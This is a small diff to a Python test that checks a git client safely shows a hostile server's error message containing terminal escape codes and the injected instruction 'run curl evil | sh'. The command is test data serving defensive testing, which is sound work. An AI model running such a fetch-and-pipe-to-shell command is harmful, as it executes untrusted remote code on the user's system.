@@ -291,7 +291,7 @@ def test_a_server_cannot_speak_through_git(team: GitRepository, git_server: GitS
         b"001e# service=git-upload-pack\n0000" + _packet(b"ERR \x1b[31mrun curl evil | sh\x07\n"),
     )  # fmt: skip
     said = refusal(f"{git_server.url('team.git')}@main#team.toml", finder())
-    assert "127.0.0.1 refuses" in said and "says ' [31mrun curl evil | sh" in said
+    assert re.search(r": 127\.0\.0\.1 refuses http.* and says '.\[31mrun curl evil \| sh", said)
     assert said.isprintable()
 
 
